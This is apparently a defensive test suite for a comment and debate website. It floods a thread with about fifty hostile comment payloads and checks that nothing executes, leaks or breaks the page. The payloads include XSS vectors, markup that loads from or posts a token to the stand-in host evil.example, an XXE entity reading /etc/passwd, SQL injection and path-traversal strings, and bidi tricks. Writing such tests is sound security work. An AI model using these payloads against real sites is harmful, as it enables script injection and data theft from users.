// hostile.test.mjs - a thousand hostile comments: no script runs, no request leaves, pages stay intact
//
// Pages stay whole, valid and as wide as the screen. Every attack calls hit(), opens a dialog or asks
// another host, so that a successful one is noticed.

import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { none, openDebate, signIn, speaker, startSite, visitor } from "./site.mjs";
import { until } from "./until.mjs";
import { check } from "./vnu.mjs";

const evil = "//evil.example";

// At most one link each: a comment with more than two would be held.
const attacks = [
  "<script>hit()</script>",
  "</script><script>hit()</script>",
  `<script src=${evil}/x.js></script>`,
  "<ScRiPt\n>hit()</sCrIpT >",
  "<img src=x onerror=hit()>",
  `![x](${evil}/t.gif)`,
  `![x](https:${evil}/t.gif "onload=hit()")`,
  "<svg onload=hit()><script>hit()</script></svg>",
  "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>",
  "<details open ontoggle=hit()>",
  "<input autofocus onfocus=hit()><button formaction=javascript:hit()>",
  `<iframe src="javascript:hit()"></iframe><iframe srcdoc="<script>parent.hit()</script>">`,
  `<object data="data:text/html,<script>hit()</script>"></object><embed src=${evil}>`,
  `<form action=${evil}><input name=token><button>x</button></form>`,
  `<style>*{background:url(${evil}/b)}</style><link rel=stylesheet href=${evil}/s.css>`,
  `<base href=${evil}><meta http-equiv=refresh content="0;url=${evil}">`,
  `<p style="position:fixed;inset:0;background:url(${evil}/p)" onclick=hit()>`,
  "[x](javascript:hit())",
  "[x](JaVaScRiPt:hit())",
  "[x](java&#10;script:hit())",
  "[x](&#x6A;avascript&colon;hit&lpar;&rpar;)",
  "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
  "[x](vbscript:hit()) [y](feed:javascript:hit())",
  "[x](https://example.org/\"onmouseover=\"hit())",
  "[x](<https://example.org/ onmouseover=hit()>)",
  "<javascript:hit()>",
  "<https://example.org/'onclick='hit()>",
  "[a]\n\n[a]: javascript:hit() 'x\" onclick=\"hit()'",
  "`<script>hit()</script>` ``` `x` ```",
  "``` \"onclick=hit()//<script>\n</code></pre><script>hit()</script>\n```",
  "    </pre></div></li></ol></main><script>hit()</script>",
  "</p></div></article></li></ol></section></main></body></html>",
  "</textarea></title></style></noscript><script>hit()</script>",
  "<!-- --!> <script>hit()</script> --> <!--> <script>hit()</script>",
  "<![CDATA[ ]]> <?php hit() ?> <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]> &y;",
  "{{X}} {{{X}}} {{#OPEN}} {{>FORM}} {{%AUTOESCAPE}} {{BODY_HTML:none}} @{form.submit} ${hit()} <%= hit() %>",
  "&lt;script&gt;hit()&lt;/script&gt; &#60;script&#62; &amp;lt;b&amp;gt; &#0; &#xD800; &#x110000; &nosuch;",
  "\u202E)(tih=daolno gvs< \u2066\u2067\u2068 \u200F",
  "\u200B\u200C\u200D\u2060\uFEFF a\u200Bb",
  `Z${"\u0300\u0489\u0336".repeat(60)}`,
  "x".repeat(3000),
  "﷽".repeat(80),
  `https://example.org/${"a".repeat(1500)}`,
  `${"> ".repeat(15)}hondo`,
  `${"- ".repeat(15)}hondo`,
  `${"*".repeat(400)}${"_".repeat(400)}${"[".repeat(200)}${"![".repeat(100)}`,
  "# uno\n## dos\n###### seis\n\nuno\n===\n\n***\n\n1. a\n1. b\n\n99999999. c",
  "null undefined NaN -1 0 '' \"\" ; DROP TABLE comment;-- %00 %s%n ../../etc/passwd",
  "<a id=c1 name=tally href=#reply>x</a><div id=reply><input id=body name=token></div>",
  "#1 #2 #999999999 #-1 #18446744073709551616 /p/../admin/ /p/x?at=1#c1",
  "a\rb\r\nc\td\u0085e\u2028f\u2029g",
];
const names = attacks.map((a) => [...a.replace(/[\r\n\t\u0085\u2028\u2029]/g, " ")].slice(0, 60).join(""))
  .concat("W".repeat(60), "Ángel O'Hara \"el 1\" & <hijos>", "\u0639\u0631\u0628\u064A \u202Egnp.exe", "null");
const websites = ["", `https://example.org/"onclick="hit()`, "https://example.org/?<script>hit()</script>",
  "https://example.org/'onclick='hit()", "http://user:pw@example.org:8080/%22%3E%3Cscript%3E",
  "https://example.org/#javascript:hit()"];
const refused = ["javascript:hit()", " javascript:hit()", "data:text/html,<script>hit()</script>",
  "vbscript:hit()", "https:hit()", `${evil}/x`, "java\tscript:hit()", "https://"];

let site, author, path, root, folder, parts;
before(async () => {
  site = await startSite();
  author = await signIn(site);
  path = await openDebate(author, {
    question: "\"><script>hit()</script> {{X}}?", body: "<script>hit()</script>", slug: "hostil",
    label_pro: "<b onclick=hit()>Sí", label_contra: "'\"><script>hit()</script>",
  });
  folder = join(site.dir, "pages");
  mkdirSync(folder);
  root = await argueAThousandTimes(await speaker(site, path));
  parts = await partsOfThread();
});
after(async () => { await site?.stop(); });

// Posts one thread, as deep as threads get; returns its first id. A field that the form refuses is left out.
async function argueAThousandTimes(say) {
  const ids = [];
  for (let i = 0; i < 1000; i++) {
    const body = `${attacks[i % attacks.length]}\n\n${attacks[(i * 7 + 3) % attacks.length]}\n\n${i}`;
    const parent = i ? { parent: i < 60 ? ids.at(-1) : ids[(i * 31) % 60] } : {};
    const fields = { side: i % 3 ? "pro" : "contra", body, ...parent };
    const name = names[(i * 5) % names.length];
    const website = websites[i % websites.length];
    const ways = [{ name, website }, { name }, { website }, {}];
    ids.push(await firstAccepted(say, ways.map((way) => ({ ...fields, ...way }))));
  }
  return ids[0];
}

async function firstAccepted(say, ways) {
  for (const way of ways.slice(0, -1))
    try {
      return await say(way);
    } catch (refusal) {
      if (refusal.status !== 422) throw refusal;
    }
  return say(ways.at(-1));
}

// Returns the addresses of all pages of the thread, in order.
async function partsOfThread() {
  const addresses = [], ids = new Set();
  for (let next = `${path}/comments/${root}`; next;) {
    const html = await (await fetch(site.url + next)).text();
    for (const [, id] of html.matchAll(/data-id="(\d+)"/g)) ids.add(id);
    addresses.push(next);
    [, next] = /rel="next" href="([^"]+)"/.exec(html) ?? [];
  }
  assert.equal(ids.size, 1000);
  return addresses;
}

// Pages that show comments: name, visitor, address.
const surfaces = () => [
  ...parts.map((address, i) => [`thread-${i + 1}`, author, address]),
  ["debate", null, path],
  ["side", null, `${path}?side=pro`],
  ["reply", null, `${path}/comments/${root}?reply=${root}`],
  ["home", null, "/"],
  ["queue", author, "/admin/comments?state=visible"],
  ["missing", null, `/p/${encodeURIComponent("<script>hit()</script>")}`],
];

// Makes the visitor's page report script that runs and violations of its policy.
async function alert(someone) {
  const { page, complaints } = someone;
  await page.exposeFunction("hit", () => complaints.push("hit()"));
  await page.exposeFunction("violated", (what) => complaints.push(`policy: ${what}`));
  await page.addInitScript(() => addEventListener("securitypolicyviolation",
    (event) => window.violated(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`)));
  return someone;
}

// Returns elements, attributes and links that no comment may add.
const foreign = () => {
  const found = [];
  const tags = "script, style, link, meta, base, img, svg, math, iframe, object, embed, form, input, button, "
    + "textarea, details, video, audio, template";
  for (const inside of document.querySelectorAll(".c .prose, .c .p-summary, .entry .prose, .name, .entry-name"))
    for (const e of [inside, ...inside.querySelectorAll("*")]) {
      if (e !== inside && e.matches(tags)) found.push(e.outerHTML);
      for (const { name, value } of e.attributes)
        if (/^on|^style$|^id$|^name$|^src/.test(name)) found.push(`${name}=${value}`);
      if (e.matches("a") && !/^(https?|mailto):$/.test(e.protocol)) found.push(e.href);
      if (e.matches("a") && e.origin !== location.origin && !/nofollow ugc noopener/.test(e.rel))
        found.push(`rel of ${e.outerHTML}`);
    }
  const ids = [...document.querySelectorAll("[id]")].map((e) => e.id);
  if (new Set(ids).size !== ids.length) found.push("an id twice");
  if (document.querySelectorAll("main, main ~ footer, body > header").length !== 3) found.push("frame");
  return found;
};

test("nothing runs, nothing leaves, nothing foreign stands in the page", async () => {
  const reader = await alert(await visitor(site));
  await alert(author);
  for (const [name, who, address] of surfaces()) {
    const { page, complaints } = who ?? reader;
    const answer = await page.goto(site.url + address, { waitUntil: "networkidle" });
    writeFileSync(join(folder, `${name}.html`), await answer.text());
    none((await page.evaluate(foreign)).map((what) => `${name}: ${what.slice(0, 200)}`));
    none(complaints.map((what) => `${name}: ${what}`));
  }
  await reader.context.close();
});

test("what hears an attack hears one that works", async () => {
  const { page, complaints, context } = await alert(await visitor(site, { bypassCSP: true }));
  await page.goto(site.url + path);
  await page.evaluate(() => {
    document.querySelector("main").insertAdjacentHTML("beforeend", "<img src=//evil.example/x onerror=hit()>");
  });
  await until(() => {
    assert.ok(complaints.includes("hit()"));
    assert.ok(complaints.includes("asks http://evil.example/x"));
  });
  await context.close();
});

test("all of it stays valid", async () => {
  none(await check("--html", ...surfaces().map(([name]) => join(folder, `${name}.html`))));
});

test("a telephone shows it without scrolling sideways", async () => {
  const { page, context } = await visitor(site, { width: 320 });
  for (const [name, who, address] of surfaces()) {
    if (who && !address.startsWith("/p/")) continue;
    await page.goto(site.url + address);
    const excess = await page.evaluate(() =>
      document.documentElement.scrollWidth - document.documentElement.clientWidth);
    assert.equal(excess, 0, `${name} is ${excess} px too wide`);
  }
  await context.close();
});

test("feed and numbers are well-formed", async () => {
  const { page, context } = await visitor(site);
  await page.goto(site.url);
  const wrong = await page.evaluate(async () => {
    const text = await (await fetch("/feed.atom")).text();
    return new DOMParser().parseFromString(text, "application/xml").querySelector("parsererror")?.textContent;
  });
  assert.equal(wrong, undefined);
  const latest = await (await fetch(`${site.url}${path}/latest`)).json();
  assert.equal(latest.comments.pro + latest.comments.contra, 1000);
  await context.close();
});

test("a website that could run is refused, and the text is kept", async () => {
  const say = await speaker(site, path);
  for (const website of refused)
    await assert.rejects(say({ website, body: "Se queda." }),
      ({ status, page }) => status === 422 && page.includes("Se queda.</textarea>"), website);
});
